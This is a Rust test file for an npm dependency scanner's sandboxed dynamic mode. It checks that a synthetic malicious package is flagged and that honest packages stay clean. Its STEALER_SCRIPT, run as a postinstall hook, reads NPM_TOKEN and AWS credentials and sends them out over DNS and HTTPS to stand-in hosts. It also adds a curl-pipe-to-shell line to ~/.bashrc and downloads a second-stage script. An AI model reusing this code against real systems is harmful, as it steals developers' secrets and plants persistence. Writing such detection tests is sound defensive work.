//! `dsca scan --dynamic` end to end: synthetic packages that act like malware (against
//! reserved names and TEST-NET addresses only) and honest ones are installed and imported
//! in the sandbox, from the local test registry through the sandbox's registry proxy.
//! Run with DSCA_SANDBOX_TESTS=1 as root; the real-registry case also needs
//! DSCA_NETWORK_TESTS=1.

use assert_cmd::Command;
use dsca_test::{
    PackageBuilder, TempHome, TestRegistry, network_tests_enabled, sandbox_tests_enabled,
};
use serde_json::Value;

fn dsca(home: &TempHome) -> Command {
    let mut cmd = Command::cargo_bin("dsca").expect("the dsca binary is built");
    cmd.envs(home.envs())
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("npm_config_registry")
        .current_dir(home.project_dir());
    cmd
}

fn scan_json(cmd: &mut Command) -> (i32, Value, String) {
    let output = cmd.output().expect("run dsca");
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let json = serde_json::from_str(&stdout)
        .unwrap_or_else(|err| panic!("not JSON ({err}):\n{stdout}\nstderr: {stderr}"));
    (output.status.code().unwrap_or(-1), json, stderr)
}

fn rule_ids(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["rule"].as_str().map(str::to_string))
        .collect()
}

fn texts(values: &Value, field: &str) -> Vec<String> {
    values
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|v| v[field].as_str().map(str::to_string))
        .collect()
}

/// What a credential stealer with a dropper does at install time, aimed at reserved names.
const STEALER_SCRIPT: &str = r#"
const dns = require('dns');
const https = require('https');
const net = require('net');
const fs = require('fs');
const os = require('os');
const cp = require('child_process');
const token = process.env.NPM_TOKEN || '';
let aws = '';
try { aws = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); } catch (e) {}
const hex = Buffer.from(token).toString('hex');
dns.lookup(hex.slice(0, 40) + '.' + hex.slice(40) + '.t.exfil.example', () => {});
const req = https.request({ hostname: 'collect.example', path: '/upload?k=1', method: 'POST',
  headers: { 'content-type': 'application/json' } }, (res) => res.resume());
req.on('error', () => {});
req.end(JSON.stringify({ token, aws, host: os.hostname() }));
const sock = net.connect(4444, '198.51.100.23', () => sock.end('hello from ' + os.userInfo().username));
sock.on('error', () => {});
fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl -s http://payload.example/x.sh | sh\n');
cp.spawn('sh', ['-c', 'sleep 60'], { detached: true, stdio: 'ignore' }).unref();
cp.exec('curl -s -o /tmp/stage2.sh http://payload.example/stage2.sh; echo done');
setTimeout(() => {}, 2500);
"#;

#[test]
fn a_stealer_is_caught_in_the_act() {
    if !sandbox_tests_enabled("a_stealer_is_caught_in_the_act") {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("tiny-dep", "1.0.0")
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    registry.publish(
        PackageBuilder::new("helpful-utils", "1.0.0")
            .dependency("tiny-dep", "^1.0.0")
            .script("postinstall", "node install.js")
            .file("install.js", STEALER_SCRIPT)
            .file("index.js", "module.exports = require('tiny-dep');\n")
            .build(),
    );
    let home = TempHome::new();
    let capture = home.path().join("run.pcapng");
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--install-timeout",
        "90",
        "--pcap",
        capture.to_str().expect("UTF-8 path"),
        "--format",
        "json",
        "--registry",
        registry.url(),
        "helpful-utils@1.0.0",
    ]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    assert!(run.is_object(), "no dynamic section: {report:#}");
    let install = &run["phases"][0];
    assert_eq!(install["name"], "install", "{run:#}");
    assert_eq!(install["status"], "completed", "{install:#}");
    assert_eq!(install["exit_code"], 0, "{install:#}");

    // The dependency came through the registry proxy and was installed.
    let http = &run["http"];
    let urls = texts(http, "url");
    assert!(
        urls.iter().any(|u| u.contains("tiny-dep")),
        "the dependency was not fetched through the proxy: {urls:#?}"
    );
    assert!(
        urls.iter()
            .any(|u| u == "https://collect.example/upload?k=1"),
        "the HTTPS request was not decrypted: {urls:#?}"
    );
    assert!(
        urls.iter().any(|u| u == "http://payload.example/stage2.sh"),
        "curl's download was not seen: {urls:#?}"
    );
    let names = texts(&run["dns"], "name");
    assert!(
        names.iter().any(|n| n.ends_with(".t.exfil.example")),
        "the DNS exfiltration was not seen: {names:#?}"
    );
    assert!(names.iter().any(|n| n == "collect.example"), "{names:#?}");
    let connections = run["connections"].as_array().cloned().unwrap_or_default();
    assert!(
        connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.23" && c["port"] == 4444),
        "the IP-literal connection was not seen: {connections:#?}"
    );
    let processes = run["processes"].as_array().cloned().unwrap_or_default();
    let ran = |program: &str| {
        processes.iter().any(|p| {
            p["execs"].as_array().into_iter().flatten().any(|e| {
                e["path"]
                    .as_str()
                    .is_some_and(|path| path.ends_with(&format!("/{program}")))
            })
        })
    };
    assert!(ran("curl"), "curl not in the process tree");
    assert!(ran("node"), "node not in the process tree");
    assert!(
        processes.iter().any(|p| p["outlived"] == true),
        "the detached sleep was not reported as outliving the install"
    );
    let reads = texts(&run["honeytokens"]["reads"], "path");
    assert!(
        reads.iter().any(|p| p == "~/.aws/credentials"),
        "bait read not seen: {reads:#?}"
    );
    let exfiltrations = run["honeytokens"]["exfiltrations"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let channels: Vec<&str> = exfiltrations
        .iter()
        .filter_map(|e| e["channel"].as_str())
        .collect();
    assert!(channels.contains(&"dns"), "{exfiltrations:#?}");
    assert!(channels.contains(&"https"), "{exfiltrations:#?}");
    let files = run["files"].as_array().cloned().unwrap_or_default();
    assert!(
        files.iter().any(
            |f| f["path"].as_str().is_some_and(|p| p.ends_with("/.bashrc")) && f["op"] != "read"
        ),
        "the write to ~/.bashrc was not seen: {files:#?}"
    );

    let rules = rule_ids(&report);
    for rule in ["DSCA1001", "DSCA1002", "DSCA1003", "DSCA1009"] {
        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
    }
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");

    // The capture reads back through `dsca pcap` with the same names and the original
    // destination of the redirected connection.
    let (_, captured, stderr) =
        scan_json(dsca(&home).args(["pcap", "--format", "json", capture.to_str().unwrap()]));
    let network = &captured["network"];
    let captured_names = texts(&network["names"], "name");
    for name in &names {
        assert!(
            captured_names.contains(name),
            "{name} missing from the capture: {captured_names:?}\n{stderr}"
        );
    }
    let captured_connections = network["connections"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        captured_connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.23" && c["port"] == 4444),
        "{captured_connections:#?}"
    );
    let sni = texts(&network["tls_server_names"], "host");
    assert!(sni.iter().any(|h| h == "collect.example"), "{sni:?}");
}

#[test]
fn an_honest_package_stays_clean_and_the_host_stays_hidden() {
    if !sandbox_tests_enabled("an_honest_package_stays_clean_and_the_host_stays_hidden") {
        return;
    }
    // Something on the host the package must not see or change.
    let host_secret = tempfile::Builder::new()
        .prefix("dsca-host-secret")
        .tempfile_in("/tmp")
        .expect("temp file");
    std::fs::write(host_secret.path(), "host secret").expect("write");
    let escape_marker = format!("/tmp/dsca-escape-{}", std::process::id());
    let probe = format!(
        "const fs = require('fs');\n\
         const seen = {{}};\n\
         for (const p of ['{secret}', '/root', '/work']) {{ seen[p] = fs.existsSync(p); }}\n\
         try {{ fs.writeFileSync('{marker}', 'x'); }} catch (e) {{}}\n\
         fs.writeFileSync('built.json', JSON.stringify(seen));\n\
         console.log('probe ' + JSON.stringify(seen));\n",
        secret = host_secret.path().display(),
        marker = escape_marker,
    );
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("honest-build", "2.0.0")
            .script("install", "node build.js")
            .file("build.js", probe)
            .file("index.js", "module.exports = () => 42;\n")
            .build(),
    );
    let home = TempHome::new();
    let (code, report, stderr) = scan_json(dsca(&home).args([
        "scan",
        "--dynamic",
        "--format",
        "json",
        "--registry",
        registry.url(),
        "honest-build@2.0.0",
    ]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    let phases = run["phases"].as_array().cloned().unwrap_or_default();
    assert_eq!(phases.len(), 2, "{run:#}");
    for phase in &phases {
        assert_eq!(phase["status"], "completed", "{phase:#}");
        assert_eq!(phase["exit_code"], 0, "{phase:#}");
    }
    let stdout = phases[0]["stdout_tail"].as_str().unwrap_or_default();
    assert!(
        stdout.contains(&format!("\"{}\":false", host_secret.path().display())),
        "the host's /tmp was visible: {stdout}"
    );
    assert!(stdout.contains("\"/root\":false"), "{stdout}");
    assert!(stdout.contains("\"/work\":false"), "{stdout}");
    assert!(
        !std::path::Path::new(&escape_marker).exists(),
        "the package wrote to the host's /tmp"
    );
    let names = texts(&run["dns"], "name");
    assert!(
        run["dns"]
            .as_array()
            .into_iter()
            .flatten()
            .all(|q| q["registry"] == true),
        "lookups outside the registry: {names:?}"
    );
    assert!(
        run["honeytokens"]["exfiltrations"]
            .as_array()
            .is_some_and(Vec::is_empty)
    );
    let rules = rule_ids(&report);
    assert!(
        !rules
            .iter()
            .any(|r| r.len() == 8 && r.starts_with("DSCA10")),
        "dynamic findings on an honest package: {rules:?}\n{report:#}"
    );
    assert_eq!(report["verdict"]["level"], "clean", "{rules:?}");
}

#[test]
fn a_real_package_from_the_npm_registry_installs_in_the_sandbox() {
    if !sandbox_tests_enabled("a_real_package_from_the_npm_registry_installs_in_the_sandbox")
        || !network_tests_enabled("a_real_package_from_the_npm_registry_installs_in_the_sandbox")
    {
        return;
    }
    let home = TempHome::new();
    let (code, report, stderr) =
        scan_json(dsca(&home).args(["scan", "--dynamic", "--format", "json", "is-number@7.0.0"]));
    assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
    let run = &report["dynamic"];
    assert_eq!(run["phases"][0]["status"], "completed", "{run:#}");
    assert_eq!(run["phases"][0]["exit_code"], 0, "{run:#}");
    assert_eq!(report["verdict"]["level"], "clean");
}
